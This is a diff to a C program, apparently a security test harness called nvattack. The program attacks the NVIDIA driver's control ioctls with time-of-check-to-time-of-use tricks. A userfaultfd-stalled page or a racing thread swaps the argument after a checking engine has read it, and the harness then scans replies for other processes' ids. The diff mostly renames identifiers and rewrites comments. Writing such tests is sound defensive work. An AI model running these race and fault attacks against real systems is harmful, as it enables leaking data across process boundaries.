@@ -1,11 +1,11 @@
 // SPDX-License-Identifier: GPL-2.0 OR MIT
 /*
- * A hostile caller: it lets the driver read another argument than the engine, which looked before. By a fault, when part of the argument
- * lies on a page that is missing and the rest is exchanged before the page is given; and by a race, when a thread exchanges it all the time.
- * Every control that carries process ids is tried, and every byte that comes back is looked through for the numbers given.
+ * A hostile caller: after the engine has read the argument, the driver reads another one. `fault` puts part of the argument on a missing page
+ * (userfaultfd), and changes the rest before it supplies the page. `race` has a thread that changes the argument all the time.
+ * nvattack tries every control with process ids, and searches every returned byte for the given numbers.
  *
- * One line per try: `row NAME claim CLAIM calls N accepted M found F`, and ` as PID` with the first one found. Exit 0: nothing found; 1: something
- * found; 2: usage, or no device.
+ * Prints a line for each try: `row NAME claim CLAIM calls N accepted M found F`, and ` as PID` with the first one found. Exit 0: nothing
+ * found; 1: something found; 2: usage, or no device.
  */
 #define _GNU_SOURCE
 #include <getopt.h>
@@ -16,7 +16,7 @@
 static uint8_t *params, *decoy; /* BUFFER bytes each */
 static struct nv_way way;
 
-/* What the argument says before it is exchanged. */
+/* The argument that the engine reads first. */
 struct claim {
 	const char *name;
 	uint32_t cmd, size; /* 0: the row's own */
@@ -27,14 +27,14 @@ static const struct claim claims[] = {
 };
 #define CLAIMS (sizeof(claims) / sizeof(claims[0]))
 
-static struct nv_control_arg truly(const struct row *row)
+static struct nv_control_arg real_argument(const struct row *row)
 {
 	return (struct nv_control_arg){ session.client, handle(row->object), row->cmd, 0, (uintptr_t)params, row->size, 0xdead };
 }
 
-static struct nv_control_arg claimed(const struct row *row, const struct claim *claim)
+static struct nv_control_arg claimed_argument(const struct row *row, const struct claim *claim)
 {
-	struct nv_control_arg arg = truly(row);
+	struct nv_control_arg arg = real_argument(row);
 
 	arg.cmd = !claim->cmd ? harmless(row->object) : claim->cmd == 1 ? row->cmd : claim->cmd;
 	arg.size = claim->size ? claim->size : row->size;
@@ -48,7 +48,7 @@ static void prepare(const struct row *row)
 	memset(decoy, 0, BUFFER);
 	memset(inner, 0, BUFFER);
 	row->fill(params, row);
-	/* A look-up without a number answers about no process, and a list needs its class. */
+	/* A look-up without PIDs returns no process, but a list needs its class. */
 	if (!row->figures)
 		row->fill(decoy, row);
 }
@@ -67,8 +67,8 @@ static uint32_t number_in(const uint8_t *p)
 	return 0;
 }
 
-/* The first foreign number that came back, or that figures came back about. */
-static uint32_t found(const struct row *row)
+/* The first foreign number in the answer, or the number of a foreign process that the answer has figures of. */
+static uint32_t foreign_number(const struct row *row)
 {
 	uint64_t figures;
 	uint32_t pid;
@@ -101,7 +101,7 @@ static int report(const struct row *row, const char *claim, unsigned long calls,
 
 /* --- by a fault --- */
 
-/* Whether the attack, and then the missing page, waits for a line on the input. */
+/* Whether to wait for a line of standard input before the attack, and again before supplying the page. */
 static bool late;
 
 static void wait_for_line(void)
@@ -115,61 +115,61 @@ static void wait_for_line(void)
 }
 
 /*
- * Two pages, of which the first is missing. What is exchanged lies on the second, as far as it is there; `give` is what the first holds
- * in its last eight bytes.
+ * Two pages, of which the first is missing. The argument's first eight bytes are at the end of the first page, the rest is on the second.
+ * `given` is the content that the first page gets.
  */
 static struct {
 	int fd;
 	uint8_t *pages, *given;
 	volatile uint8_t *second;
-	uint8_t after[24]; /* what the second page begins with once the first is given */
+	uint8_t after[24]; /* written to the second page before the first is supplied */
 	volatile unsigned faults;
-} lure;
+} uffd_block;
 
-static void *giver(void *unused)
+static void *supply_page(void *unused)
 {
 	struct uffd_msg message;
 
-	while (read(lure.fd, &message, sizeof(message)) == sizeof(message)) {
-		struct uffdio_copy copy = { .dst = (uintptr_t)lure.pages, .src = (uintptr_t)lure.given, .len = PAGE };
+	while (read(uffd_block.fd, &message, sizeof(message)) == sizeof(message)) {
+		struct uffdio_copy copy = { .dst = (uintptr_t)uffd_block.pages, .src = (uintptr_t)uffd_block.given, .len = PAGE };
 		unsigned i;
 
 		if (late)
 			wait_for_line();
-		for (i = 0; i < sizeof(lure.after); i++)
-			lure.second[i] = lure.after[i];
-		lure.faults++;
-		ioctl(lure.fd, UFFDIO_COPY, &copy);
+		for (i = 0; i < sizeof(uffd_block.after); i++)
+			uffd_block.second[i] = uffd_block.after[i];
+		uffd_block.faults++;
+		ioctl(uffd_block.fd, UFFDIO_COPY, &copy);
 	}
 	return unused;
 }
 
-static void make_lure(void)
+static void make_uffd_block(void)
 {
-	lure.pages = missing_memory(2 * PAGE, PAGE, &lure.fd);
-	lure.given = aligned_alloc(PAGE, PAGE);
-	nv_check(lure.given, "nvattack: a page", -ENOMEM);
-	memset(lure.given, 0, PAGE);
-	lure.second = lure.pages + PAGE;
-	nv_thread(giver, NULL);
+	uffd_block.pages = missing_memory(2 * PAGE, PAGE, &uffd_block.fd);
+	uffd_block.given = aligned_alloc(PAGE, PAGE);
+	nv_check(uffd_block.given, "nvattack: a page", -ENOMEM);
+	memset(uffd_block.given, 0, PAGE);
+	uffd_block.second = uffd_block.pages + PAGE;
+	nv_thread(supply_page, NULL);
 }
 
-/* A block whose first eight bytes are missing and whose rest is `before` until they are asked for, and `after` from then on. */
-static void *lay(const void *before, const void *after, size_t size)
+/* A block whose first eight bytes are missing. The rest is `before` until the missing bytes are read, and `after` from then on. */
+static void *place_argument(const void *before, const void *after, size_t size)
 {
-	if (madvise(lure.pages, PAGE, MADV_DONTNEED))
+	if (madvise(uffd_block.pages, PAGE, MADV_DONTNEED))
 		nv_die("nvattack: madvise", -errno);
-	memcpy((void *)lure.second, (const uint8_t *)before + 8, size - 8);
-	memcpy(lure.after, (const uint8_t *)after + 8, size - 8);
-	memcpy(lure.given + PAGE - 8, after, 8);
-	return lure.pages + PAGE - 8;
+	memcpy((void *)uffd_block.second, (const uint8_t *)before + 8, size - 8);
+	memcpy(uffd_block.after, (const uint8_t *)after + 8, size - 8);
+	memcpy(uffd_block.given + PAGE - 8, after, 8);
+	return uffd_block.pages + PAGE - 8;
 }
 
 static int by_fault(const struct row *row, const struct claim *claim, bool wrapping)
 {
-	struct nv_control_arg false_arg = claimed(row, claim), true_arg = truly(row);
+	struct nv_control_arg false_arg = claimed_argument(row, claim), true_arg = real_argument(row);
 	uint32_t pid = 0;
-	unsigned faults = lure.faults;
+	unsigned faults = uffd_block.faults;
 	int rc;
 
 	prepare(row);
@@ -178,14 +178,14 @@ static int by_fault(const struct row *row, const struct claim *claim, bool wrapp
 		struct nv_xfer_arg before = { 0x2a, sizeof(false_arg), (uintptr_t)&false_arg };
 		struct nv_xfer_arg after = { 0x2a, sizeof(true_arg), (uintptr_t)&true_arg };
 
-		rc = ioctl(ctl, nv_ioc(211, sizeof(before), &way), lay(&before, &after, sizeof(before)));
+		rc = ioctl(ctl, nv_ioc(211, sizeof(before), &way), place_argument(&before, &after, sizeof(before)));
 	} else {
-		rc = nv_control_send(ctl, lay(&false_arg, &true_arg, sizeof(false_arg)), &way);
-		memcpy(&true_arg, lure.pages + PAGE - 8, sizeof(true_arg));
+		rc = nv_control_send(ctl, place_argument(&false_arg, &true_arg, sizeof(false_arg)), &way);
+		memcpy(&true_arg, uffd_block.pages + PAGE - 8, sizeof(true_arg));
 	}
-	if (lure.faults == faults)
+	if (uffd_block.faults == faults)
 		nv_die("nvattack: no call touched the missing page", -EIO);
-	pid = found(row);
+	pid = foreign_number(row);
 	return report(row, claim->name, 1, rc == 0 && true_arg.status == 0, pid != 0, pid);
 }
 
@@ -200,7 +200,7 @@ static struct {
 	volatile unsigned long hits;
 } race;
 
-static void *exchanger(void *unused)
+static void *exchange_thread(void *unused)
 {
 	unsigned turn = 0, i;
 
@@ -216,10 +216,10 @@ static void *exchanger(void *unused)
 	return unused;
 }
 
-static void *looker(void *unused)
+static void *look_thread(void *unused)
 {
 	while (!race.stop) {
-		uint32_t pid = found(race.row);
+		uint32_t pid = foreign_number(race.row);
 
 		if (pid) {
 			race.seen = pid;
@@ -240,13 +240,13 @@ static int by_race(const struct row *row, double seconds)
 	race.row = row;
 	race.stop = 0;
 	race.hits = 0;
-	race.true_arg = truly(row);
+	race.true_arg = real_argument(row);
 	for (i = 0; i < CLAIMS; i++)
-		race.false_args[i] = claimed(row, &claims[i]);
+		race.false_args[i] = claimed_argument(row, &claims[i]);
 	memcpy((void *)&race.arg, &race.true_arg, sizeof(race.true_arg));
 	prepare(row);
-	thread[0] = nv_thread(exchanger, NULL);
-	thread[1] = nv_thread(looker, NULL);
+	thread[0] = nv_thread(exchange_thread, NULL);
+	thread[1] = nv_thread(look_thread, NULL);
 	do {
 		int rc;
 
@@ -255,7 +255,7 @@ static int by_race(const struct row *row, double seconds)
 		rc = nv_control_send(ctl, (struct nv_control_arg *)&race.arg, &way);
 		calls++;
 		accepted += rc == 0 && race.arg.status == 0;
-		one = found(row);
+		one = foreign_number(row);
 		hits += one != 0;
 		pid = one ? one : pid;
 	} while (now() < end);
@@ -314,7 +314,7 @@ int main(int argc, char **argv)
 		nv_die("nvattack: buffers", -ENOMEM);
 	open_rows("nvattack: /dev/nvidiactl, client and objects", 1);
 	if (strcmp(what, "race"))
-		make_lure();
+		make_uffd_block();
 	if (late) {
 		printf("ready\n");
 		fflush(stdout);
